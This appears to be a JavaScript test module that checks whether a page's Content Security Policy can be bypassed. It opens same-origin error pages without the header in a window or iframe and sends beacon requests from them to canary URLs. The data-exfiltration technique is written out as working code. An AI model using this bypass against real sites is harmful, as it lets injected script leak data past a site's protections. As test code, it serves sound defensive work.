// The known way around: a page of the same origin that lacks the header, such as one that says "not found". Whoever
// runs in the shell would open it and send from there.
import { setTimeout as wait } from "node:timers/promises";
import { atAddress } from "./rooms.mjs";

const SETTLES = 3000;

/** Runs in the shell: opens `path`, and sends to `http` from what was opened, if it can be reached into. */
async function sendThroughWindow({ path, http }) {
  const opened = open(path);
  await new Promise((loaded) => setTimeout(loaded, 1500));
  new opened.Image().src = http;
  await opened.fetch(http, { mode: "no-cors" });
}

/** The same in a frame. */
async function sendThroughFrame({ path, http }) {
  const frame = document.createElement("iframe");
  frame.src = path;
  document.body.append(frame);
  await new Promise((loaded) => setTimeout(loaded, 1500));
  new frame.contentWindow.Image().src = http;
  await frame.contentWindow.fetch(http, { mode: "no-cors" });
}

export const WAYS = { "a window": sendThroughWindow, "a frame": sendThroughFrame };

/** Answers that are no page: not found, no session, and one that the server's own parser gives. */
export const PATHS = {
  "not found": "/nothing",
  "no session": "/v1/session",
  "too long": `/${"a".repeat(70_000)}`,
};

export const ERROR_PAGES = Object.keys(PATHS).flatMap((page) =>
  Object.keys(WAYS).map((way) => `${page}, in ${way}`),
);

/** Tries each page in each way from the page at `origin`; what arrived is with the canaries. */
export async function tryErrorPages(browser, origin, canaries) {
  for (const [page, path] of Object.entries(PATHS)) {
    for (const [way, send] of Object.entries(WAYS)) {
      const { frame, leave } = await atAddress(browser, `${origin}/`, "lazaret-exchange")();
      const { http } = canaries.to(`${page}, in ${way}`);
      await Promise.race([frame.evaluate(send, { path, http }).catch(() => {}), wait(SETTLES)]);
      await leave();
    }
  }
}
